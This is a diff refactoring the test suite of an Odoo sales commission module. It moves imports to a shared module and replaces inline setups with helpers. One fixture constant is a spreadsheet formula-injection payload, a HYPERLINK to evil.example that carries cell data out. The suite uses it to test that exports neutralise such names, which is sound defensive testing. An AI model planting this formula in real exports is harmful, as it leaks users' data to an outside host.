@@ -10,17 +10,14 @@ import openpyxl
 from psycopg2.errors import UniqueViolation
 
 from odoo import Command
-from odoo.addons.sales_compliance.tests.test_gate_rpc import RpcError, call_kw
+from odoo.addons.sales_compliance.tests.common import RpcError, call_kw
 from odoo.exceptions import UserError, ValidationError
 from odoo.tests import HttpCase, tagged
 from odoo.tools import mute_logger
 
 from ..tools.spreadsheet import csv_safe, csv_safe_row, xlsx_write
-from . import test_clawback
-from .common import TargetsCase
-from .test_commission import FEB, JAN, MAR, CommissionCase
+from .common import APR, FEB, JAN, MAR, CommissionCase, TargetsCase
 
-APR = (date(2025, 4, 1), date(2025, 4, 30))
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Rep A")'
 
 
@@ -31,12 +28,7 @@ class CreditShareCase(TargetsCase):
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls.mine = cls.make_order(
-            cls.rep_a,
-            1000,
-            confirm=False,
-            shares=[Command.create({"user_id": cls.rep_a.id, "share": 100})],
-        )
+        cls.mine = cls.quotation(cls.rep_a, (cls.rep_a, 100))
         cls.colleagues = cls.make_order(cls.rep_b, 50000, confirm=False)
 
 
@@ -277,8 +269,7 @@ class TestStatementExportInjection(CommissionCase, HttpCase):
         super().setUpClass()
         cls.rep_a.password = "tgt_rep_a_secret"
         cls.make_order(cls.rep_a, 8000, datetime(2025, 1, 10, 9))
-        statements = cls.env["sales.commission.statement"]._generate_statements(*JAN)
-        cls.statement = statements.filtered(lambda s: s.user_id == cls.rep_a)
+        cls.statement = cls.of(cls.statements(JAN), cls.rep_a)
 
     def test_a_reps_formula_name_reaches_the_managers_export_as_text(self):
         self.authenticate("tgt_rep_a", "tgt_rep_a_secret")
@@ -305,26 +296,6 @@ class TestStatementExportInjection(CommissionCase, HttpCase):
 # ----------------------------------------------------------------------
 @tagged("post_install", "-at_install")
 class TestRefundGivenBack(CommissionCase):
-    # the helpers of the clawback tests (not their tests)
-    statement = test_clawback.TestClawbacks.statement
-    confirm = test_clawback.TestClawbacks.confirm
-    invoice = test_clawback.TestClawbacks.invoice
-    clawbacks = test_clawback.TestClawbacks.clawbacks
-
-    def clawed_back_refund(self):
-        """January paid 250 on an order of 10,000; February took back 100 for a credit note
-        of 4,000; both confirmed."""
-        order = self.make_order(self.rep_a, 10000, datetime(2025, 1, 10, 9))
-        invoice = self.invoice(order, date(2025, 1, 15))
-        self.confirm(self.statement(JAN))
-        refund = invoice._reverse_moves([{"invoice_date": date(2025, 2, 5)}])
-        refund.invoice_line_ids.price_unit = 4000
-        refund.action_post()
-        feb = self.statement(FEB)
-        self.assertAlmostEqual(feb.clawback_amount, -100)
-        self.confirm(feb)
-        return order, refund
-
     def assert_given_back_once(self, refund):
         mar = self.statement(MAR)
         given = self.clawbacks(mar)
@@ -364,20 +335,7 @@ class TestRefundGivenBack(CommissionCase):
         self.assertAlmostEqual(may.clawback_amount, -150)
 
     def test_an_achievement_restored_gives_the_bonus_back(self):
-        scheme = self.env["sales.commission.scheme"].create(
-            {
-                "name": "Bonus",
-                "base": "achievement",
-                "metric_id": self.metric_revenue.id,
-                "bonus_amount": 1000,
-                "tier_mode": "flat",
-                "tier_ids": [
-                    Command.create({"from_pct": 0, "to_pct": 80, "rate": 0}),
-                    Command.create({"from_pct": 80, "to_pct": 0, "rate": 100}),
-                ],
-                "assignment_ids": [Command.create({"user_id": self.rep_a.id})],
-            }
-        )
+        scheme = self.bonus_scheme()
         self.make_order(self.rep_a, 7000, datetime(2025, 1, 10, 9))
         late = self.make_order(self.rep_a, 2000, datetime(2025, 1, 20, 9))
         self.confirm(self.statement(JAN, scheme=scheme))
@@ -454,8 +412,7 @@ class TestOwnStatement(CommissionCase):
         # a manager who also sells in the team the plan pays
         cls.env["crm.team.member"].create({"crm_team_id": cls.team_1.id, "user_id": cls.manager.id})
         cls.make_order(cls.manager, 10000, datetime(2025, 1, 10, 9))
-        statements = cls.env["sales.commission.statement"]._generate_statements(*JAN)
-        cls.own = statements.filtered(lambda s: s.user_id == cls.manager)
+        cls.own = cls.of(cls.statements(JAN), cls.manager)
 
     def test_adjustment_lines_cannot_pose_as_computed_lines(self):
         """An adjustment carrying a clawback origin would tell the engine a credit note was
